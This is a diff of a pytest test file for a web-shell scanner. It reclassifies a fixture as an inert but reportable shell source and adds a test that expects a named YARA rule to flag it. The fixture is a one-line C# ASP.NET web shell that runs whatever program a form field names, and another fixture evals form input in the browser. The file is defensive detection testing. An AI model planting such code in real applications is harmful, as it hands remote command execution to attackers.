@@ -193,12 +193,6 @@ BENIGN: list[tuple[str, str]] = [
         '        cmd.Parameters.AddWithValue("@id", Request.QueryString["id"]);\n    }\n}\n',
     ),
     (
-        # the same shell as a .cs ASP.NET never compiles (not in App_Code, no page names it): inert
-        "portal/backup/Diag.cs",
-        "using System.Web;\npublic class Old { public void Run() {\n"
-        '    System.Diagnostics.Process.Start(HttpContext.Current.Request.Form["c"]); } }\n',
-    ),
-    (
         # a browser script: .js outside App_Code is never server code
         "portal/scripts/app.js",
         'var q = location.search; var v = eval("(" + document.getElementById("data").value + ")");\n',
@@ -212,7 +206,7 @@ ENTRY = ("portal/entry.aspx", '<%@ Page Language="C#" %>\n<% new Example.Diag().
 @pytest.fixture(scope="module")
 def scanned(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
     """One tree with every file above, scanned once through ``extriage scan``."""
-    files = [(s[0], s[1]) for s in SHELLS] + BENIGN + [ENTRY]
+    files = [(s[0], s[1]) for s in SHELLS] + BENIGN + [ENTRY, INERT_SHELL_SOURCE]
     return scan_tree(tmp_path_factory.mktemp("codefiles"), ROOT, files)
 
 
@@ -248,6 +242,22 @@ def test_backdoor_in_compiled_code_is_found(
 @pytest.mark.parametrize(("rel", "text"), BENIGN, ids=[b[0] for b in BENIGN])
 def test_ordinary_code_is_not_flagged(scanned: dict[str, Any], rel: str, text: str) -> None:
     assert [f["rule_id"] for f in findings_for(scanned, rel)] == []
+
+
+#: A shell's source ASP.NET never compiles (not in App_Code, no page names it): not run by itself, so no
+#: behaviour finding and no verdict, but named for review (a take-over web.config's compilerOptions may
+#: compile it: X38, session 16).
+INERT_SHELL_SOURCE = (
+    "portal/backup/Diag.cs",
+    "using System.Web;\npublic class Old { public void Run() {\n"
+    '    System.Diagnostics.Process.Start(HttpContext.Current.Request.Form["c"]); } }\n',
+)
+
+
+def test_a_shell_source_no_one_compiles_is_named_for_review(scanned: dict[str, Any]) -> None:
+    found = findings_for(scanned, INERT_SHELL_SOURCE[0])
+    assert [f["rule_id"] for f in found] == ["WF-YARA-EXT_WEBSHELL_Source_Runs_Request_Named_Program"]
+    assert found[0]["outcome"] == "info"
 
 
 def test_two_line_page_is_the_stub_it_always_was(scanned: dict[str, Any]) -> None:
